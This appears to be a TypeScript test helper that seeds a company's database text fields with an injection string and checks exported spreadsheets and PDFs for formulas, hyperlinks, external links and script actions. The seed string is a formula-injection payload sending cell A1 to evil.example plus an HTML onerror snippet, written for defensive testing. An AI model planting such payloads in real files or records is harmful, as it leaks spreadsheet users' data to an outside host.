import { readXlsx } from 'hucre/xlsx'
import { expect } from 'vitest'
import { inspectZip, unzipPart } from '../platform/files/zip-directory.ts'
import type { TestApp } from '../platform/testing/test-app.ts'
import { marker } from './isolation.marker.ts'

/** A formula, a link and markup in one text, as a customer may type it as a name. */
export const hostile = `=HYPERLINK("https://evil.example/?"&A1,"x")<img src=x onerror=1>`

/** In every text of the company: what a rule of the table does not allow stays as it is. */
export async function poison(app: TestApp, companyId: string): Promise<number> {
  const owner = await app.owner()
  const { rows } = await owner.query<{ table: string; column: string }>(
    `select c.table_name as table, c.column_name as column
     from information_schema.columns c join information_schema.tables t using (table_schema, table_name)
     where table_schema = 'public' and t.table_type = 'BASE TABLE' and c.data_type = 'text' and c.is_generated = 'NEVER'
       and exists (select 1 from information_schema.columns k where k.table_schema = 'public'
         and k.table_name = c.table_name and k.column_name = 'company_id')`,
  )
  let changed = 0
  for (const { table, column } of rows) {
    const answer = await owner
      .query(
        `update ${table} set ${column} = replace(${column}, $1, $2) where company_id = $3 and ${column} like '%' || $1 || '%'`,
        [marker, hostile, companyId],
      )
      .catch(() => undefined)
    changed += answer?.rowCount ?? 0
  }
  return changed
}
/** How many files were looked at, and how many of their cells have the text. */
export const seen = { xlsx: 0, pdf: 0, hostile: 0 }

/** Looks through a file as a reader of it would. */
export async function checkFile(bytes: Buffer): Promise<void> {
  if (bytes.subarray(0, 2).toString('latin1') === 'PK') await checkSheets(bytes)
  if (bytes.subarray(0, 5).toString('latin1') === '%PDF-') checkPdf(bytes)
}

/** Excel runs what stands in an `f`, follows a `hyperlink` and loads what a relation outside of the file names. */
async function checkSheets(bytes: Buffer): Promise<void> {
  const zip = inspectZip(bytes, { maxEntries: 1_000, maxUnzippedBytes: 100_000_000, maxRatio: 1_000 })
  if (!zip.ok) throw new Error('the sheet cannot be read')
  for (const [name, entry] of zip.entries) {
    expect(name).not.toMatch(/vbaProject|externalLink/i)
    const content = await unzipPart(bytes, entry, 100_000_000)
    const part = String(content)
    if (name.endsWith('.pdf')) checkPdf(content ?? Buffer.alloc(0))
    if (name.startsWith('xl/worksheets/')) expect(part).not.toMatch(/<f[\s>]|<hyperlink/)
    if (name.endsWith('.rels')) expect(part).not.toMatch(/TargetMode="External"/)
  }
  // An archive of other files is no sheet.
  if (!zip.entries.has('[Content_Types].xml')) return
  seen.xlsx += 1
  const { sheets } = await readXlsx(bytes)
  const cells = sheets.flatMap(({ rows }) => rows.flat())
  seen.hostile += cells.filter((cell) => typeof cell === 'string' && cell.includes('HYPERLINK')).length
}

/** Objects that a reader follows or runs by itself. */
function checkPdf(bytes: Buffer): void {
  seen.pdf += 1
  expect(bytes.toString('latin1')).not.toMatch(
    /\/(JavaScript|JS|Launch|OpenAction|URI|SubmitForm|EmbeddedFile)\b/,
  )
}
